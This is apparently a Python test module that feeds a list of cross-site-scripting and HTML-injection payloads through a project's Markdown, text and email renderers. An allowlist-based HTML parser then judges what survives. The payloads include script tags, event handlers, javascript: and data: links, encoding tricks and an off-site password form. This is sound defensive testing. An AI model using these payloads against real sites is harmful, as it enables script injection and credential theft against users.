"""What hostile writers try, and a judge of what became of it. The judge reads HTML as a browser does, not as we do."""

from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

from folkmoot.kit import code, letters, markdown, mentions, mime, plaintext

OURS = code.CLASSES | {"mention", "fold", "fold signature", "attribution"}
TAGS = set(
    "a blockquote br code dd del details div dl dt em h3 h4 h5 h6 hr img li ol p pre s span strong sub summary sup"
    " table tbody td th thead tr ul".split()
)
VOID = {"br", "hr", "img"}
ATTRIBUTES = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title", "loading"},
    "ol": {"start"},
    "td": {"align"},
    "th": {"align"},
    "code": {"class"},
    "span": {"class"},
    "details": {"class"},
    "p": {"class"},
}
SCHEMES = {"", "http", "https", "mailto", "tel", "xmpp", "matrix", "ftp"}

# Our own small sample, for those who have no collection.
SAMPLE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://elsewhere.example/x.png)",
    '![x](/files/1/x.png"onerror="alert(1))',
    "![x](/files/../../evil)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](<https://a.example/" onmouseover=alert(1) ">)',
    '[x](/a "t\\" onclick=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    'https://a.example/"><img src=x onerror=alert(1)>',
    "https://a.example/?a=<script>alert(1)</script>",
    "www.a.example/'onclick='alert(1)",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    "</div></article></main><h1>out</h1>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<p style=position:fixed;inset:0>over everything</p>",
    "<form action=https://elsewhere.example><input name=password></form>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example'>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<video src=x onerror=alert(1)></video><audio src=https://elsewhere.example/x.mp3>",
    "<textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<span class='post is-held'>dressed up</span>",
    "<a id=act name=forms>clobbered</a>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> > > <script>alert(1)</script>\n\n-- \n<script>alert(1)</script>",
    "On Monday <script>alert(1)</script> wrote:\n> <img src=x onerror=alert(1)>",
    '@ann<script>alert(1)</script> @ann"onclick=alert(1)',
    '[x](/a "> @ann <img src=x onerror=alert(1)>") @ann',
    "- [x] <script>alert(1)</script>",
    '[cid:x"onerror=alert(1)] [cid:1]',
    "\x00<script\x00>alert(1)</script>",
    "\ufeff<script>alert(1)</script>\u2028\u202e",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
]


def rendered(text: str) -> Iterator[tuple[str, str]]:
    """Yield what every way of showing somebody's words makes of a text, and the name of the way."""
    yield "markdown", markdown.to_html(text)
    yield "markdown, with pictures", markdown.to_html(text, images={"cid:1": "/files/1/x.png"})
    yield "text", plaintext.to_html(text, images={"cid:1": "/files/1/x.png"})
    yield "letter of text", letters.to_html(text, "text")
    yield "letter of Markdown", letters.to_html(text, "markdown")
    yield "letter of HTML", letters.to_html(mime.html.to_markdown(mime.html.cleaned(text)), "markdown")
    yield "people named", mentions.linked(markdown.to_html(text), {"ann"})


class Judge(HTMLParser):
    """Notes what must not stand in a page, and whether what is opened is closed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.offences: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.offences.append(f"<{tag}>")
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def _look_at(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES.get(tag, set()):
            self.offences.append(f"<{tag} {name}>")
        elif name == "href" and scheme(value) not in SCHEMES:
            self.offences.append(f"a link to {value}")
        elif name == "src" and not value.startswith("/files/"):
            self.offences.append(f"a picture from {value}")
        elif name == "class" and value not in OURS and not (tag == "code" and value.startswith("language-")):
            self.offences.append(f"class {value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.offences.append(f"</{tag}> closes what it did not open")

    def handle_comment(self, data: str) -> None:
        self.offences.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.offences.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.offences.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.offences.append(f"<?{data}>")


def scheme(address: str) -> str:
    """As a browser reads it: control characters around it, and tabs and line ends within, count for nothing."""
    tidy = "".join(char for char in address if char not in "\t\r\n").strip("".join(map(chr, range(33))))
    try:
        return urlsplit(tidy).scheme.lower()
    except ValueError:  # http://[ and the like lead nowhere
        return ""


def offences(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.offences + [f"<{tag}> is not closed" for tag in judge.open]
